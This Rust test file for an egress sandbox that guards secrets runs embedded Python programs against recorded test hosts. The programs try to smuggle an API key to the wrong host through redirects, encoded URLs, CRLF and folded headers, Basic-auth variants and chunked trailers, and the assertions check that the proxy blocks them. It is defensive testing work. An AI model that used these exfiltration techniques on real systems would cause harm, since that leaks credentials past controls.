//! Placeholders at hosts and in places that are not their secret's.

use cofferdam_test_server::recorded::RecordedHost;
use serde_json::{Value, json};

use super::super::scene::printed;
use super::scene::{PLACEHOLDER, SECRET, attack, engine, plain_host, ruled};
use crate::Unexercised;
use crate::engine::Workspace;
use crate::target::{EGRESS_ADDRESS, Target};

/// The host of the secret, another one with rules, and one without.
struct PlaceholderScene {
    own: RecordedHost,
    other: RecordedHost,
    listed: RecordedHost,
}

impl PlaceholderScene {
    fn start() -> Self {
        Self { own: plain_host(), other: plain_host(), listed: plain_host() }
    }

    fn network(&self) -> Value {
        let (own, other) = (self.own.authority(), self.other.authority());
        json!({
            "allow": [self.listed.authority()],
            "rules": {&own: [{"plain": true}], &other: [{"plain": true}]},
            "secrets": {"key": {"value": SECRET, "hosts": [&own]}},
            "secret_env": {"API_KEY": "key"},
        })
    }

    #[track_caller]
    fn attack(&self, workspace: &Workspace<'_>, program: &str) -> Value {
        let hosts = [&self.own, &self.other, &self.listed].map(RecordedHost::authority);
        attack(
            workspace,
            &format!("own, other, listed = {hosts:?}\nkey = os.environ['API_KEY']\n{program}"),
        )
    }

    /// Panics if a host that is not the secret's heard of it, or any host of its placeholder.
    #[track_caller]
    fn assert_kept(&self, result: &Value) {
        for host in [&self.other, &self.listed] {
            assert!(!host.heard().contains(SECRET), "the secret: {result}");
        }
        for host in [&self.own, &self.other, &self.listed] {
            let heard = host.heard();
            let whole = heard.split(PLACEHOLDER).skip(1);
            let is_whole =
                |rest: &str| rest.chars().take_while(char::is_ascii_hexdigit).count() >= 32;
            assert!(!whole.into_iter().any(is_whole), "a placeholder: {heard}");
        }
    }
}

const REDIRECTED: &str = r"
import subprocess
def follow(*options):
    told = ['curl', '-sS', '-m', '20', '-L', '--location-trusted', '-o', 'page', '-w', '%{http_code} %{num_redirects}\n', *options]
    return subprocess.run(told, capture_output=True, text=True).stdout.strip() + ' ' + ''.join(re.findall(r'egress\.\w+', open('page').read()))
for status in [301, 302, 303, 307, 308]:
    print(follow('-H', f'Authorization: Bearer {key}', f'http://{own}/to/{status}'))
print(follow('-u', f'user:{key}', '-d', 'body', f'http://{own}/to/307'))
print(follow('-H', f'X-Api-Key: {key}', f'http://{own}/to/302'))
print(follow('-H', f'Cookie: a={key}', f'http://{other}/'))
got = get(own, '/told', f'X-Api-Key: {key}\r\n').decode()
to = re.search('(?i)location: (\S+)', got)[1]
print(to.startswith(f'http://{other}/?key=') and 'redacted' in to, code(get(other, to.split(other)[1].replace('[', '').replace(']', ''))))
";

pub fn in_redirects(target: &Target) -> Result<(), Unexercised> {
    let client = engine(target)?;
    let other = plain_host();
    let to = other.authority();
    let own = RecordedHost::answering(EGRESS_ADDRESS, None, move |head| {
        let status = head.split(['/', ' ']).find(|word| word.starts_with('3') && word.len() == 3);
        let (status, query) =
            (status.unwrap_or("302"), if head.contains("/told") { SECRET } else { "" });
        format!("HTTP/1.1 {status} Moved\r\nLocation: http://{to}/?key={query}\r\nContent-Length: 0\r\n\r\n")
            .into_bytes()
    });
    let scene = PlaceholderScene { own, other, listed: plain_host() };
    let workspace = ruled(&client, &scene.network());
    let result = scene.attack(&workspace, REDIRECTED);
    let lines = printed(&result);
    assert_eq!(lines[..7], ["403 1 egress.secret_host"; 7], "{result}");
    assert_eq!(lines[7..], ["403 0 egress.secret_host", "True 200"], "{result}");
    assert_eq!(scene.own.heard().matches(SECRET).count(), 7, "{result}");
    assert_eq!(scene.other.requests(), ["GET /?key=redacted"], "{result}");
    scene.assert_kept(&result);
    Ok(())
}

const IN_URLS: &str = r"
escaped = ''.join(f'%{byte:02x}' for byte in key.encode())
some = key.replace('c', '%63').replace('_', '%5F')
for host in [own, other, listed]:
    for path in [
        f'/{key}', f'/a/{key}/b', f'/a;{key}', f'/a{key}b', f'/{escaped}', f'/{some}', f'/{escaped.upper()}', f'/x/..//{key}', f'/{key}/..;',
        f'/?{key}', f'/?{key}=1', f'/?a={key}', f'/?x=1&a={key}', f'/?a=b%26{key}', f'/?a={escaped}', f'/?a={some}', f'/?{some}=a',
        f'/?authorization={key}', f'/?a=+{key}+', f'/?a&&{key}', f'/?a=1?b={key}', f'/?a=/{key}', f'/?{key}{key}',
    ]:
        print(code(get(host, path)))
for host in [own, other, listed]:
    print(code(send(f'GET http://{key}@{host}/ HTTP/1.1\r\nHost: {host}\r\n\r\n')))
    print(code(send(f'GET http://{key}:x@{host}/ HTTP/1.1\r\nHost: {host}\r\n\r\n')))
    print(code(send(f'GET /{key} HTTP/1.1\r\nHost: {host}\r\n\r\n')))
    print(code(send(f'GET http://{host}/ HTTP/1.1\r\nHost: {key}.test\r\n\r\n')))
# In two pieces it stands for nothing.
for host in [own, other]:
    print('cut', code(get(host, f'/?a={key[:20]}&b={key[20:]}')), code(get(host, f'/{key[:20]}/{key[20:]}')))
";

pub fn in_urls(target: &Target) -> Result<(), Unexercised> {
    let client = engine(target)?;
    let scene = PlaceholderScene::start();
    let workspace = ruled(&client, &scene.network());
    let result = scene.attack(&workspace, IN_URLS);
    let (cut, whole) =
        printed(&result).into_iter().partition::<Vec<_>, _>(|l| l.starts_with("cut"));
    assert_eq!(cut, ["cut 200 200"; 2], "{result}");
    let is_refused = |line: &&&str| line.starts_with("40");
    assert_eq!(whole.iter().filter(is_refused).count(), whole.len(), "{result}");
    assert!(whole.iter().filter(|line| **line == "403 secret_host").count() >= 66, "{result}");
    assert!(!scene.own.heard().contains(SECRET), "{result}");
    scene.assert_kept(&result);
    Ok(())
}

const IN_LINES: &str = r"
names = ['Authorization', 'X-Api-Key', 'Private-Token']
for host in [other, listed]:
    for name in names:
        for lines in [
            f'{name}: a\r\n{name}: {key}\r\n', f'{name}: {key}\r\n{name}: a\r\n', f'{name}: {key}, {key}\r\n', f'{name}: a, b;c={key}\r\n',
            f'{name.lower()}: {key}\r\n{name.upper()}: {key}\r\n', f'{name}:{key}\r\n', f'{name}:  \t {key} \t\r\n', f'{name}: \xff{key}\r\n',
            f'Connection: x-y\r\n{name}: {key}\r\n', f'A: b\r\n{name}: x{key}x\r\n',
        ]:
            print(code(get(host, '/', lines)))
for host in [own, other]:
    print('folded', code(get(host, '/', f'X-Api-Key: a\r\n {key}\r\n')), code(get(host, '/', f'X-Api-Key:\r\n\t{key}\r\n')))
    print('folded', code(get(host, '/', f'X-Api-Key: {key[:9]}\r\n {key[9:]}\r\n')), code(get(host, '/', f'X-Api-Key: a\rX-Api-Key: {key}\r\n')))
    print('cut', code(get(host, '/', f'X-Api-Key: {key[:20]}\r\nX-Api-Key: {key[20:]}\r\n')), code(get(host, '/', f'Cookie: {key[:20]}\r\nCookie: {key[20:]}\r\n')))
print('own', code(get(own, '/', f'X-Api-Key: a\r\nX-Api-Key: {key}\r\nX-Api-Key: {key}, {key}\r\n')))
";

pub fn in_several_lines(target: &Target) -> Result<(), Unexercised> {
    let client = engine(target)?;
    let scene = PlaceholderScene::start();
    let workspace = ruled(&client, &scene.network());
    let result = scene.attack(&workspace, IN_LINES);
    let lines = printed(&result);
    assert_eq!(lines[..60], ["403 secret_host"; 60], "{result}");
    let rest = ["folded 400 400", "folded 400 400", "cut 200 200"].repeat(2);
    let is_folded = |line: &&str| line.replace(" bad_request", "");
    assert_eq!(lines[60..66].iter().map(is_folded).collect::<Vec<_>>(), rest, "{result}");
    assert_eq!(lines[66..], ["own 200"], "{result}");
    let heard = scene.own.heard();
    let values: Vec<_> = heard.lines().filter(|line| line.contains(SECRET)).collect();
    let [one, two] = [format!("x-api-key: {SECRET}"), format!("x-api-key: {SECRET}, {SECRET}")];
    assert_eq!(values, [one, two], "{result}");
    scene.assert_kept(&result);
    Ok(())
}

const IN_CREDENTIALS: &str = r"
def of(text):
    return base64.b64encode(text.encode()).decode()
pairs = [f'user:{key}', f'{key}:', f'{key}:x', key, f'a:b:{key}', f'\xe9:{key}', f'{key}:{key}', f'user:{key}\n']
for host in [other, listed]:
    for pair in pairs:
        for scheme in ['Basic ', 'basic ', 'BASIC   ', 'Basic\t']:
            print(code(get(host, '/', f'Authorization: {scheme}{of(pair)}\r\n')))
    for name in ['X-Api-Key', 'Cookie', 'X-Other']:
        print(code(get(host, '/', f'{name}: Basic {of(pairs[0])}\r\n')))
    print(code(get(host, '/', f'Authorization: Basic {of(pairs[0]).rstrip(chr(61))}\r\n')))
    print('never sent', code(get(host, '/', f'Proxy-Authorization: Basic {of(pairs[0])}\r\n')))
print('own', code(get(own, '/', f'Authorization: basic  {of(pairs[0])}\r\n')), code(get(own, '/', f'Cookie: Basic {of(pairs[0])}\r\n')))
";

pub fn in_basic_credentials(target: &Target) -> Result<(), Unexercised> {
    use base64::Engine;
    use base64::engine::general_purpose::STANDARD;
    let client = engine(target)?;
    let scene = PlaceholderScene::start();
    let workspace = ruled(&client, &scene.network());
    let result = scene.attack(&workspace, IN_CREDENTIALS);
    let lines = printed(&result);
    let refused = lines.iter().filter(|line| **line == "403 secret_host").count();
    assert_eq!((refused, lines.len()), (72, 75), "{result}");
    let others: Vec<_> = lines.iter().filter(|line| **line != "403 secret_host").collect();
    let never_sent = [&"never sent 200", &"never sent 403 secret_host"];
    assert_eq!(others[..2], never_sent, "{result}");
    assert_eq!(others[2..], [&"own 200 403 secret_host"], "{result}");
    let pair = format!("authorization: Basic {}\r\n", STANDARD.encode(format!("user:{SECRET}")));
    assert!(scene.own.heard().contains(&pair), "{}", scene.own.heard());
    let secret = STANDARD.encode(format!("user:{SECRET}"));
    for host in [&scene.other, &scene.listed] {
        let heard = host.heard();
        assert!(!heard.contains(&secret) && !heard.to_lowercase().contains("basic"), "{heard}");
    }
    scene.assert_kept(&result);
    Ok(())
}

const IN_OTHER_PLACES: &str = r"
for name in ['Cookie', 'Referer', 'User-Agent', 'Origin', 'X-Other', 'Accept', 'From', 'Content-Type', 'Via', 'Forwarded', 'If-Match', 'Range', 'Authorization2']:
    print(code(get(own, '/', f'{name}: a={key}\r\n')))
    print(code(get(own, '/', f'{name}: http://a/?b={key}&c\r\n')))
print(code(get(own, '/', f'{key}: 1\r\n')), code(get(own, '/', f'x-{key}: 1\r\n')))
for host in [own, other]:
    trailers = f'Trailer: x\r\nTransfer-Encoding: chunked\r\n\r\n2\r\nhi\r\n0\r\nx: {key}\r\n\r\n'
    print('trailers', code(send(f'POST http://{host}/ HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n{trailers}')))
print('own', code(get(own, '/', f'X-Api-Key: {key}\r\n')))
";

pub fn in_other_places(target: &Target) -> Result<(), Unexercised> {
    let client = engine(target)?;
    let scene = PlaceholderScene::start();
    let workspace = ruled(&client, &scene.network());
    let result = scene.attack(&workspace, IN_OTHER_PLACES);
    let lines = printed(&result);
    assert_eq!(lines[..26], ["403 secret_host"; 26], "{result}");
    assert_eq!(lines[26], "403 secret_host 403 secret_host", "{result}");
    assert!(lines[27..29].iter().all(|line| *line != "trailers 200"), "{result}");
    assert_eq!(lines[29..], ["own 200"], "{result}");
    assert_eq!(scene.own.heard().matches(SECRET).count(), 1, "{}", scene.own.heard());
    scene.assert_kept(&result);
    Ok(())
}
